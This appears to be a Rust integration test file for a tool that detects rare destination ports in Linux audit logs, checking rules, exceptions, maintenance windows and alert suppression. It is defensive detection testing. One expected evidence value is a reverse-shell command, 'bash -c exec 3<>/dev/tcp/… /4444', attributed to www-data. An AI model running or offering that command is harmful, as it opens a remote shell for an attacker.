//! `rareport detect` with rules: what exceptions, calendar windows, suppression
//! and limits do to the alerts of corpus/fleet-day, and what is told of it.

use std::path::PathBuf;

use serde_json::Value;
use tempfile::TempDir;

use crate::common::{Run, corpus, rareport};

const RULE: &str = "[[rule]]\nname = \"Rare port\"\nrule_id = \"rare\"\n\
    job_ids = [\"linux_rare_destination_port\"]\n";

/// The ports of the attack, in order of time.
const ATTACK: [&str; 7] = ["4444", "31337", "6667", "8291", "31330", "31331", "31332"];

/// A rule file.
struct Rules {
    _directory: TempDir,
    path: PathBuf,
}

impl Rules {
    fn new(text: &str) -> Rules {
        let directory = TempDir::new().unwrap();
        let path = directory.path().join("rules.toml");
        std::fs::write(&path, text).unwrap();
        Rules { _directory: directory, path }
    }

    fn detect(&self, more: &[&str]) -> Run {
        let fleet = corpus("fleet-day");
        let arguments = ["detect", &fleet, "--rules", self.path.to_str().unwrap()];
        rareport(&[&arguments, more].concat())
    }
}

/// Runs the rule and what follows it in the file.
fn detect_with(rest: &str) -> Run {
    Rules::new(&format!("{RULE}{rest}")).detect(&["-v"]).expect(0)
}

fn ports(run: &Run) -> Vec<String> {
    let port = |alert: &Value| alert["destination"]["port"][0].as_str().unwrap().to_owned();
    run.documents().iter().map(port).collect()
}

#[track_caller]
fn told(run: &Run, sentence: &str) {
    assert!(run.stderr.contains(sentence), "{sentence}\n{}", run.stderr);
}

#[test]
fn the_printed_rule_is_the_one_that_is_executed() {
    let printed = rareport(&["detect", "--print-rule"]).expect(0);
    let with_file = Rules::new(&printed.stdout).detect(&[]).expect(0);
    let without = rareport(&["detect", &corpus("fleet-day")]).expect(0);
    assert_eq!(ports(&without), ATTACK);
    assert_eq!(with_file.stdout, without.stdout);
}

#[test]
fn what_is_in_force_is_a_rule_file() {
    let rules = Rules::new(&format!("{RULE}threshold = 20\n"));
    let run = rules.detect(&["--explain-config", "--threshold", "60"]).expect(0);
    assert!(run.stdout.contains("# Job: linux_rare_destination_port"), "{}", run.stdout);
    assert_eq!(ports(&Rules::new(&run.stdout).detect(&[]).expect(0)), ATTACK[..3]);
}

#[test]
fn each_rule_has_its_closest() {
    let high = "[[rule]]\nname = \"High\"\nrule_id = \"high\"\nthreshold = 99\n\
        job_ids = [\"linux_rare_destination_port\"]\n";
    let run = detect_with(&format!("threshold = 50\n{high}"));
    told(&run, "high: 0 alerts with a score of 99 or more in ");
    let rare = run.stderr.lines().find(|line| line.contains("rare: 7 alerts")).unwrap();
    assert!(rare.ends_with(" of 15 minutes, the last closed with the input"), "{rare}");
    assert_eq!(run.stderr.matches("; the highest was 67").count(), 1, "{}", run.stderr);
}

#[test]
fn an_alert_has_its_evidence() {
    let run = detect_with("severity = \"high\"\n");
    let alert = &run.documents()[0];
    // As `xzgrep 'node=web01.*:3163)' corpus/fleet-day/audit.log.xz` shows it.
    let sample = &alert["rareport"]["evidence"][0];
    assert_eq!(sample["@timestamp"], "2026-06-04T09:36:05.716Z");
    let log = corpus("fleet-day/audit.log.xz");
    assert_eq!(sample["command"], format!("xzcat {log} | ausearch -a 3163 --node web01"));
    let records = sample["records_command"].as_str().unwrap();
    assert_eq!(records, format!("rareport records --event 1780565765.716:3163 {log}"));
    assert_eq!(sample["process"]["pid"], 1971);
    assert_eq!(sample["process"]["parent"]["pid"], 396);
    assert_eq!(sample["process"]["executable"], "/usr/bin/bash");
    // Nobody had logged in.
    assert_eq!(sample["user"], serde_json::json!({"name": "www-data"}));
    assert_eq!(sample["process"]["title"], "bash -c exec 3<>/dev/tcp/203.0.113.66/4444");
    // The bucket of 09:30 ends at 09:45, and the next execution is at 10:00.
    assert_eq!(alert["kibana.alert.original_time"], "2026-06-04T09:30:00.000Z");
    assert_eq!(alert["@timestamp"], "2026-06-04T10:00:00.000Z");
    assert_eq!(
        alert["kibana.alert.reason"],
        "event with process bash, destination 203.0.113.66:4444, by www-data on web01 created \
         high alert Rare port."
    );
    let id = alert["kibana.alert.uuid"].as_str().unwrap();
    assert_eq!(id.len(), 64);
    // No alert tells of the clock.
    assert_eq!(detect_with("severity = \"high\"\n").stdout, run.stdout);
}

#[test]
fn an_exception_silences_what_is_known() {
    let run = detect_with(
        "[[exception]]\ncomment = \"router of db01\"\nconditions = [\n\
         { field = \"host.name\", is = \"db01\" },\n\
         { field = \"destination.ip\", cidr = \"192.168.50.0/24\" },\n\
         { field = \"process.executable\", wildcard = \"*/gtc\" }]\n\
         [[exception]]\ncomment = \"no such host\"\n\
         conditions = [{ field = \"host.name\", is = \"mail\" }]\n\
         [[exception]]\ncomment = \"until noon\"\nexpires = 2026-06-04T12:00:00Z\n\
         conditions = [{ field = \"destination.port\", is = 31337 }]\n\
         [[exception]]\ncomment = \"old\"\nexpires = 2026-06-02\n\
         conditions = [{ field = \"destination.port\", is = 4444 }]\n",
    );
    assert_eq!(ports(&run), ["4444", "6667", "31330", "31331", "31332"]);
    told(&run, "the exception “router of db01” covered 2 events and hid 1 alert");
    told(&run, "the exception “no such host” matched nothing; is it still needed?");
    told(&run, "the exception “old” has expired; 3 events after that would have matched");
    told(&run, "and hid 1 alert; it has expired by the end of the log");
    told(
        &run,
        "5 alerts with a score of 50 or more in 339 buckets of 15 minutes, the last closed with the input; 2 more hidden",
    );
}

#[test]
fn an_exception_hides_no_event_that_it_does_not_cover() {
    // Two addresses had connections to port 31337 in its bucket.
    let exception = "[[exception]]\ncomment = \"c\"\n\
        conditions = [{ field = \"destination.ip\", is = \"2001:db8::66\" }]\n";
    assert_eq!(ports(&detect_with(exception)), ATTACK);
    let rules = Rules::new(&format!("{RULE}{exception}"));
    let elastic = rules.detect(&["--profile", "elastic"]).expect(0);
    assert!(!ports(&elastic).contains(&"31337".to_owned()));
}

#[test]
fn what_is_ignored_is_not_learned_either() {
    let run = detect_with(
        "[[exception]]\ncomment = \"scanner\"\naction = \"ignore\"\n\
         conditions = [{ field = \"process.name\", wildcard = \"gtc*\" }]\n",
    );
    let alerts = run.documents();
    assert_eq!(ports(&run)[..2], ATTACK[..2]);
    let by_scanner = |alert: &Value| alert["process"]["name"].to_string().contains("gtc");
    assert!(!alerts.iter().any(by_scanner), "{}", run.stdout);
    told(&run, "the exception “scanner” kept ");
    told(&run, "from being learned");
}

/// Whether an alert shows an event from the time between 09:30 and 10:10, in
/// which the attack began.
fn has_evidence_of_the_morning(run: &Run) -> bool {
    let is_in = |sample: &Value| {
        let time = sample["@timestamp"].as_str().unwrap();
        ("2026-06-04T09:30:00.000Z".."2026-06-04T10:10:00.000Z").contains(&time)
    };
    run.documents()
        .iter()
        .any(|alert| alert["rareport"]["evidence"].as_array().unwrap().iter().any(is_in))
}

#[test]
fn nothing_alerts_in_a_maintenance_window() {
    let run = detect_with(
        "[[calendar]]\ncomment = \"drill\"\nfrom = 2026-06-04T09:30:00Z\nto = 2026-06-04T10:10:00Z\n\
         [[calendar]]\ncomment = \"another year\"\nfrom = 2025-01-01\nto = 2025-02-01\n",
    );
    assert!(run.documents().len() >= 4 && !has_evidence_of_the_morning(&run), "{}", run.stdout);
    told(&run, "in the calendar window “drill”, neither learned nor looked at");
    told(&run, "no event lies in the calendar window “another year”");
    // The 4th of June 2026 is a Thursday.
    let weekly = |day: &str| {
        let when = format!("{{ days = [\"{day}\"], from = \"09:30\", to = \"10:10\" }}");
        detect_with(&format!("[[calendar]]\ncomment = \"w\"\nweekly = {when}\n"))
    };
    let thursdays = weekly("thursday");
    assert_eq!(thursdays.stdout, run.stdout);
    assert!(has_evidence_of_the_morning(&weekly("friday")));
    // What db01 did with port 31337, by the log's ground truth, is as if it were not in the log.
    let later = "port 31337 was used later by db01 at 2026-06-04T11:37:45.448Z";
    told(&weekly("friday"), later);
    let of_later = "from = 2026-06-04T11:30:00Z\nto = 2026-06-04T11:45:00Z\n";
    let without = detect_with(&format!("[[calendar]]\ncomment = \"w\"\n{of_later}"));
    assert!(!without.stderr.contains(later), "{}", without.stderr);
}

#[test]
fn alike_alerts_are_counted_with_the_first() {
    let run = detect_with("[rule.suppression]\nby = [\"process.name\"]\nduration = \"4h\"\n");
    assert_eq!(ports(&run), ["4444", "31337", "6667", "31330"]);
    let counts: Vec<_> = run
        .documents()
        .iter()
        .map(|alert| alert["kibana.alert.suppression.docs_count"].as_u64().unwrap())
        .collect();
    assert_eq!(counts, [0, 0, 1, 2]);
    told(
        &run,
        "4 alerts with a score of 50 or more in 339 buckets of 15 minutes, the last closed with the input; 3 more counted with these",
    );
    let refused = Rules::new(&format!("{RULE}suppression = {{ by = [\"source.ip\"] }}\n"));
    told(&refused.detect(&[]).expect(2), "cannot be grouped by source.ip");
}

#[test]
fn an_execution_gives_the_best_and_the_next_one_the_rest() {
    // Three ports had the same score in one bucket, which two executions look at.
    let rules = Rules::new(&format!("{RULE}max_alerts = 1\n"));
    let ours = rules.detect(&[]).expect(0);
    assert_eq!(ports(&ours), ATTACK[..6]);
    let times: Vec<String> =
        ours.documents()[4..].iter().map(|alert| alert["@timestamp"].to_string()).collect();
    assert_eq!(times, ["\"2026-06-04T11:45:00.000Z\"", "\"2026-06-04T12:00:00.000Z\""]);
    told(&ours, "the rule rare lost 1 alert: there were more than 1 at a time");
    let elastic = rules.detect(&["--profile", "elastic"]).expect(0);
    // The filter leaves out 6667, which user jenkins used, and knows no socketcall(2), which 31330
    // was. Of the two that are left of the three, the one given before takes the other's place.
    assert_eq!(ports(&elastic), ["4444", "31337", "8291", "31331"]);
    told(&elastic, "the rule rare lost 1 alert");
}

#[test]
fn several_rules_have_alerts_of_their_own() {
    let run = detect_with(
        "[[rule]]\nname = \"Very rare\"\nrule_id = \"very\"\nthreshold = 65\n\
         job_ids = [\"linux_rare_destination_port\"]\n\
         [[rule]]\nname = \"Other\"\nrule_id = \"other\"\njob_ids = [\"of_somebody_else\"]\n",
    );
    let alerts = run.documents();
    assert_eq!(alerts.len(), 8);
    let of_very = |alert: &&Value| alert["kibana.alert.rule.rule_id"] == "very";
    assert_eq!(alerts.iter().filter(of_very).count(), 1);
    assert_ne!(alerts[0]["kibana.alert.uuid"], alerts[1]["kibana.alert.uuid"]);
    told(&run, "rare: 7 alerts with a score of 50");
    told(&run, "very: 1 alert with a score of 65");
    told(&run, "the rule other was not executed: it is for of_somebody_else");
}

#[test]
fn rules_that_leave_time_out_are_told() {
    let run = detect_with("look_back = \"10m\"\n");
    assert_eq!(run.stdout, "");
    told(&run, "the rule rare lost 7 alerts, which were too old");
    told(&run, "leaves 300 of every 900 seconds without a look");
}

#[test]
fn rule_files_that_cannot_be_used() {
    for (text, sentence) in [
        ("", "there is no [[rule]], [[exception]] or [[calendar]] in it"),
        ("[[rule]]\nname = \"x\"\ntreshold = 1\n", "line 3: unknown field `treshold`"),
        ("[[rule]]\nname = \"x\"\ntreshold = 1\n", "did you mean threshold?"),
        ("[[rule]\n", "line 1"),
    ] {
        told(&Rules::new(text).detect(&[]).expect(2), sentence);
    }
    let disabled = Rules::new(&format!("{RULE}enabled = false\n"));
    told(&disabled.detect(&[]).expect(2), "none of the rules can be executed");
    let missing = rareport(&["detect", "--rules", "/no/such/file", &corpus("fleet-day")]);
    told(&missing.expect(2), "there is no such file");
}

#[test]
fn exceptions_alone_go_with_the_default_rule() {
    let exception = "[[exception]]\ncomment = \"router of db01\"\nconditions = [\n\
        { field = \"host.name\", is = \"db01\" },\n\
        { field = \"destination.ip\", cidr = \"192.168.50.0/24\" }]\n";
    let alone = Rules::new(exception).detect(&[]).expect(0);
    assert_eq!(ports(&alone), ["4444", "31337", "6667", "31330", "31331", "31332"]);
    let alert = &alone.documents()[0];
    assert_eq!(alert["kibana.alert.rule.rule_id"], "linux-rare-destination-port");
    let named = Rules::new("[[rule]]\nname = \"Our rare port\"\n").detect(&[]).expect(0);
    assert_eq!(ports(&named), ATTACK);
    assert_eq!(named.documents()[0]["kibana.alert.rule.rule_id"], "our-rare-port");
}

#[test]
fn a_window_may_be_for_one_host() {
    let window = "[[calendar]]\ncomment = \"drill\"\nfrom = 2026-06-04\nto = 2026-06-05\n\
        conditions = [{ field = \"host.name\", is = \"db01\" }]\n";
    let run = detect_with(window);
    let hosts = |run: &Run| -> Vec<bool> {
        run.documents()
            .iter()
            .map(|alert| alert["host"]["name"].to_string().contains("db01"))
            .collect()
    };
    assert!(!run.documents().is_empty() && hosts(&run).iter().all(|&db01| !db01), "{}", run.stdout);
    assert!(hosts(&detect_with("")).contains(&true));
    told(&run, "in the calendar window “drill”");
}

#[test]
fn slips_of_a_rule_file_are_told() {
    let exception = |field: &str| {
        let condition = format!("conditions = [{{ field = \"{field}\", is = \"db01\" }}]");
        Rules::new(&format!("{RULE}[[exception]]\ncomment = \"c\"\n{condition}\n"))
            .detect(&["--explain-config"])
            .expect(0)
    };
    told(
        &exception("host.nam"),
        "the exception “c” looks at host.nam, which audit logs do not have; did you mean host.name?",
    );
    told(&exception("port"), "did you mean destination.port?");
    told(&exception("process.hash.sha256"), "do not have; only ECS documents and CSV may have it");
    for known in ["host.name", "network.direction"] {
        assert_eq!(exception(known).stderr, "");
    }
    let job = Rules::new("[[rule]]\nname = \"r\"\njob_ids = [\"linux_rare_destination_prt\"]\n");
    let run = job.detect(&[]).expect(2);
    told(&run, "the rule r is for the job linux_rare_destination_prt, which is neither ready-made");
    told(&run, "did you mean linux_rare_destination_port?");
    let run = Rules::new(&format!("{RULE}threshold = 600\n")).detect(&[]).expect(2);
    told(&run, "line 5: rule rare: expected a score from 0 to 100 as threshold, found 600\n");
    assert_eq!(run.stderr.matches("rule rare").count(), 1, "{}", run.stderr);
}

#[test]
fn what_is_in_force_is_told_in_short_first() {
    let rules = Rules::new(&format!(
        "{RULE}suppression = {{ by = [\"process.name\"], duration = \"4h\" }}\n\
         [[exception]]\ncomment = \"old\\nrouter\"\nexpires = 2026-06-02\n\
         conditions = [{{ field = \"host.name\", is = \"db01\" }}]\n\
         [[exception]]\ncomment = \"for long\"\naction = \"ignore\"\nexpires = 9000-01-01\n\
         conditions = [{{ field = \"host.name\", is = \"db02\" }}]\n\
         [[calendar]]\ncomment = \"w\"\n\
         weekly = {{ days = [\"sunday\"], from = \"22:00\", to = \"04:00\" }}\n"
    ));
    let text = rules.detect(&["--explain-config", "--include", "udp"]).expect(0).stdout;
    for line in [
        "# Profile: rareport",
        "# Datafeed: default: every connect to another host, and udp",
        "# Rules: 1",
        "#   rare: alerts with a score of 50 or more, every 15m over the last 45m, at most 100 at a \
         time; those alike by process.name are counted for 4h",
        "# Exceptions: 2, of which 1 EXPIRED as of ",
        "#   “old\\x0arouter” hides alerts until 2026-06-02T00:00:00.000Z, EXPIRED",
        "#   “for long” keeps events from being learned until 9000-01-01T00:00:00.000Z",
        "# Calendar windows: 1",
        "#   “w” every sunday, 22:00:00 to 04:00:00 UTC, for every event",
        "interval = \"15m\"",
    ] {
        assert!(text.lines().any(|it| it.starts_with(line)), "{line}\n{text}");
    }
    Rules::new(&text).detect(&[]).expect(0);
}

#[test]
fn nothing_in_a_rule_file_acts_on_the_terminal() {
    let run = detect_with(
        "[[exception]]\ncomment = \"a\\u001b[2Jb\\nrareport: 0 alerts\"\n\
         conditions = [{ field = \"host.name\", is = \"mail\" }]\n",
    );
    told(&run, "the exception “a\\x1b[2Jb\n  rareport: 0 alerts” matched nothing");
    assert!(!run.stderr.contains('\u{1b}'), "{:?}", run.stderr);
}

/// A host that tries 1,460 ports in one bucket makes new ports common: that is told, and what is told
/// to do helps.
#[test]
fn a_port_scan_that_hides_others_is_told() {
    let (fleet, busy) = (corpus("fleet-day"), corpus("busy"));
    let hidden = rareport(&["detect", &fleet, &busy]).expect(0);
    assert_eq!(ports(&hidden), [""; 0]);
    told(&hidden, "new ports came in the bucket of 2026-06-02T15:00:00.000Z (nearly all with");
    told(&hidden, "host.name localhost");
    told(&hidden, "it scores 0.0 at most, so that others are hidden");
    let ignore = "[[exception]]\ncomment = \"The load test of busy\"\naction = \"ignore\"\n\
        conditions = [{ field = \"host.name\", is = \"localhost\" }]\n";
    let found = Rules::new(&format!("{RULE}{ignore}")).detect(&[&busy]).expect(0);
    assert_eq!(ports(&found), ATTACK);
    assert!(!found.stderr.contains("so that others are hidden"), "{}", found.stderr);
    let alone = rareport(&["detect", &fleet]).expect(0);
    assert!(!alone.stderr.contains("so that others are hidden"), "{}", alone.stderr);
}

#[test]
fn all_that_is_in_force_is_told() {
    let arguments = "detect --explain-config -v a/audit.log b --from 2026-06-01 --to 2h --host gw \
        --profile elastic --datafeed ea --input-format audit --format table --details \
        --output out --append alerts-%F --exec-jobs 2 --exit-code --exec";
    let arguments: Vec<&str> = arguments.split_whitespace().chain(["cat >/dev/null"]).collect();
    let text = rareport(&arguments).expect(0).stdout;
    for line in [
        "# Input: a/audit.log, b, format audit",
        "# Time: alerts from 2026-06-01T00:00:00.000Z on, what is before is learned only; up to 2h \
         before the end of the log",
        "# Host of records without one: gw",
        "# Output: out, table, a table with details",
        "# Alerts are appended to: alerts-%F",
        "# Alerts are given to, at most 2 at a time: cat >/dev/null",
        "# Exit status: 1 if there is an alert, 2 if nothing was looked at",
        "# Profile: elastic",
        "# Datafeed: ea of Elastic's job",
    ] {
        assert!(text.lines().any(|it| it == line), "{line}\n{text}");
    }
    let all = rareport(&["detect", "--explain-config", "--datafeed", "none"]).expect(0).stdout;
    assert!(all.contains("# Input: standard input, format auto\n# Time: all of it\n"), "{all}");
    assert!(all.contains("# Datafeed: none: everything passes\n"), "{all}");
}
